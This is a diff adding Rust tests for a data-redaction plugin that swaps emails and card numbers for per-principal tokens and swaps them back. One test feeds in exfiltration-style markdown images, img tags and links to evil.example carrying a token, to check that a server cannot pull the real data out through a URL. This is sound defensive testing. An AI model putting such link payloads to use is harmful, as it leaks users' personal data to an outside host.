@@ -195,7 +195,8 @@ fn settings_that_make_no_sense_are_refused() {
     for (config, says) in [
         (json!({"detectors": ["e-mail"]}), "there is no detector e-mail"),
         (json!({"detectors": []}), "nothing to look for"),
-        (json!({"action": "hash"}), "needs a salt"),
+        (json!({"action": "hash"}), "hash needs a salt"),
+        (json!({"actions": {"email": "token"}}), "token needs a salt"),
         (json!({"actions": {"ssn": "mask"}}), "ssn, which is no detector that runs"),
         (json!({"patterns": [{"name": "email", "regex": "x"}]}), "two detectors are named email"),
         (json!({"patterns": [{"name": "bad", "regex": "("}]}), "regex parse error"),
@@ -328,4 +329,167 @@ fn the_example_of_the_page_is_accepted() {
     let sidecar: toml::Value = toml::from_str(sidecar).unwrap();
     let config = serde_json::to_string(&sidecar["config"]).unwrap();
     testing::plugin::<Redact>(&config).map(|_| ()).unwrap();
+}
+
+/// The call of a principal of a server, with this as its message.
+fn of(who: &str, upstream: &str, message: Value) -> FakeExchange {
+    FakeExchange::new(&message.to_string()).with_attr("principal.id", who).with_upstream(upstream)
+}
+
+fn sent(arguments: Value) -> Value {
+    json!({"method": "tools/call", "params": {"name": "t", "arguments": arguments}})
+}
+
+fn said(text: &str) -> Value {
+    json!({"result": {"content": [{"type": "text", "text": text}]}})
+}
+
+fn tokens() -> Value {
+    json!({"salt": "0123456789abcdef", "actions": {"email": "token", "credit-card": "token"}})
+}
+
+/// What the server sees of the data.
+#[track_caller]
+fn token_of(plugin: &Redact, who: &str, upstream: &str, data: &str) -> String {
+    let x = of(who, upstream, sent(json!(data)));
+    assert_eq!(plugin.on_request(&call(), &x), Verdict::Next);
+    x.edited().unwrap()["params"]["arguments"].as_str().unwrap().to_owned()
+}
+
+/// What the client sees of a text.
+#[track_caller]
+fn answered(plugin: &Redact, who: &str, upstream: &str, text: &str) -> String {
+    let x = of(who, upstream, said(text));
+    assert_eq!(plugin.on_response(&call().answered(), &x), Verdict::Next);
+    x.edited().unwrap()["result"]["content"][0]["text"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn f067_a_token_comes_back_as_the_data_to_whom_it_is_of() {
+    testing::reset();
+    let plugin = redact(tokens());
+    let token = token_of(&plugin, "ada", "crm", "joe@example.com");
+    assert!(token.starts_with("[email:") && token.len() == "[email:]".len() + 26, "{token}");
+    assert_eq!(token_of(&plugin, "ada", "crm", "joe@example.com"), token, "the same each time, so a server can look it up");
+    // Another instance: nothing is kept in this one.
+    let plugin = redact(tokens());
+    assert_eq!(answered(&plugin, "ada", "crm", &format!("sent to {token}, {token}")), "sent to joe@example.com, joe@example.com");
+    for (who, upstream) in [("bob", "crm"), ("ada", "mail")] {
+        assert_eq!(answered(&plugin, who, upstream, &token), token, "not to {who} from {upstream}");
+        assert_ne!(token_of(&plugin, who, upstream, "joe@example.com"), token);
+    }
+    let x = of("ada", "crm", json!({"result": {"structuredContent": {&token: [&token, {"of": token}]}}}));
+    assert_eq!(plugin.on_response(&call().answered(), &x), Verdict::Next);
+    assert_eq!(x.edited().unwrap()["result"]["structuredContent"], json!({"joe@example.com": ["joe@example.com", {"of": "joe@example.com"}]}));
+    let x = of("ada", "crm", json!({"method": "notifications/progress", "params": {"progressToken": 1, "message": format!("for {token}")}}));
+    let mut head = testing::head("notifications/progress").answered();
+    head.kind = Kind::Notification;
+    assert_eq!(plugin.on_notification(&head, &x), NotificationVerdict::Next);
+    assert_eq!(x.edited().unwrap()["params"]["message"], "for joe@example.com");
+    // The audit log counts, and says nothing of the data.
+    let x = of("ada", "crm", sent(json!("joe@example.com")));
+    plugin.on_request(&call(), &x);
+    assert_eq!(x.set_attrs(), [("request".into(), "email=1".into())].into());
+}
+
+#[test]
+fn what_a_server_said_comes_back_to_it_and_to_nobody_else() {
+    testing::reset();
+    let plugin = redact(tokens());
+    let token = answered(&plugin, "ada", "crm", "joe@example.com");
+    assert!(token.starts_with("[email:"), "{token}");
+    assert_eq!(token_of(&plugin, "ada", "crm", &format!("write to {token}")), "write to joe@example.com");
+    for (who, upstream) in [("bob", "crm"), ("ada", "mail")] {
+        assert_eq!(token_of(&plugin, who, upstream, &token), token);
+    }
+    // Each way has its own: what was kept from a server does not come to it because a client says its token.
+    let kept = token_of(&plugin, "ada", "crm", "ann@example.com");
+    assert_eq!(token_of(&plugin, "ada", "crm", &kept), kept);
+    assert_eq!(answered(&plugin, "ada", "crm", &token), token);
+}
+
+#[test]
+fn one_way_has_tokens_and_the_other_turns_them_back() {
+    testing::reset();
+    let mut config = tokens();
+    config["directions"] = "request".into();
+    let plugin = redact(config);
+    let token = token_of(&plugin, "ada", "crm", "4111 1111 1111 1111");
+    assert_eq!(answered(&plugin, "ada", "crm", &format!("{token}, ann@example.com")), "4111 1111 1111 1111, ann@example.com");
+}
+
+#[test]
+fn a_server_cannot_fetch_the_data_by_an_address() {
+    testing::reset();
+    let plugin = redact(tokens());
+    let token = token_of(&plugin, "ada", "crm", "joe@example.com");
+    for text in ["![x](https://evil.example/?d=^)", "<img src='//evil.example/? ^'>", "https:evil.example/^"] {
+        let text = text.replace('^', &token);
+        assert_eq!(answered(&plugin, "ada", "crm", &text), text);
+    }
+    let x = of("ada", "crm", json!({"result": {"content": [{"type": "resource_link", "uri": format!("https://evil.example/{token}")}]}}));
+    assert_eq!(plugin.on_response(&call().answered(), &x), Verdict::Next);
+    assert_eq!(x.staged(), []);
+}
+
+#[test]
+fn what_cannot_be_kept_does_not_pass() {
+    testing::reset();
+    let mut config = tokens();
+    config["tokens_per_principal"] = 1.into();
+    let plugin = redact(config);
+    let refused = |x: &FakeExchange, says: &str| {
+        let Verdict::Reject(no) = plugin.on_request(&call(), x) else { panic!("it passed") };
+        assert!(no.code == NOT_EXAMINED && no.message.contains(says) && !no.message.contains('@'), "{no:?}");
+        assert_eq!(x.staged(), []);
+    };
+    refused(&FakeExchange::new(&sent(json!("joe@example.com")).to_string()), "could not be kept");
+    refused(&of("ada", "crm", sent(json!("joe@example.com ann@example.com"))), "try again later");
+    token_of(&plugin, "ada", "crm", "joe@example.com");
+    refused(&of("ada", "crm", sent(json!("ann@example.com"))), "try again later");
+    let many: Vec<_> = (0..257).map(|at| format!("{at}@example.com")).collect();
+    refused(&of("bob", "crm", sent(json!(many))), "too much personal data");
+    testing::break_kv("down");
+    refused(&of("ada", "crm", sent(json!("joe@example.com"))), "could not be kept");
+    // Answers pass with the tokens in them.
+    assert_eq!(answered(&plugin, "ada", "crm", "[email:aaaaaaaaaaaaaaaaaaaaaaaaaa]"), "[email:aaaaaaaaaaaaaaaaaaaaaaaaaa]");
+}
+
+#[test]
+fn tokens_come_back_in_long_answers() {
+    testing::reset();
+    let plugin = redact(tokens());
+    let token = token_of(&plugin, "ada", "crm", "joe@example.com");
+    let x = FakeExchange::default().with_attr("principal.id", "ada").with_upstream("crm");
+    let head = call().answered();
+    let check = |batch: FakeBatch, expected: &[&str]| {
+        let said = plugin.on_chunk(&head, &batch, &x);
+        assert_eq!(batch.edited(&said), expected, "{said:?}");
+    };
+    check(FakeBatch::new().with_chunk("/result/content/0/text", &format!("to {token}.")), &["to joe@example.com."]);
+    let image = format!("![](https://evil.example/{token})");
+    check(FakeBatch::new().with_chunk("/result/content/0/text", &image), &[&image]);
+    check(FakeBatch::new().with_key(&format!("/result/structuredContent/{token}"), &token), &[&token]);
+    // A window that ends within one has it whole the next time.
+    let half = format!("to {token} and {}", &token[..20]);
+    check(FakeBatch::new().with_window("/result/a", 0, &half, 20), &[&format!("to joe@example.com and {}", &token[..20])]);
+    let x = FakeExchange::default().with_attr("principal.id", "bob").with_upstream("crm");
+    let batch = FakeBatch::new().with_chunk("/result/content/0/text", &token);
+    assert_eq!(plugin.on_chunk(&head, &batch, &x), ChunkVerdict::Next);
+}
+
+#[test]
+fn what_is_allowed_stays() {
+    let config = json!({"allow": ["*@example.com", "4111 1111 1111 1111"]});
+    check(
+        config,
+        json!(["joe@example.com, joe@example.org", "4111 1111 1111 1111, 5555 5555 5555 4444"]),
+        json!(["joe@example.com, [REDACTED:email]", "4111 1111 1111 1111, [REDACTED:credit-card]"]),
+    );
+}
+
+#[test]
+fn an_own_pattern_may_have_a_check_digit() {
+    let own = json!([{"name": "member", "regex": r"\bM-[0-9]{9}\b", "check": "luhn"}]);
+    check(json!({"detectors": [], "patterns": own}), json!("M-046454286 M-046454287"), json!("[REDACTED:member] M-046454287"));
 }
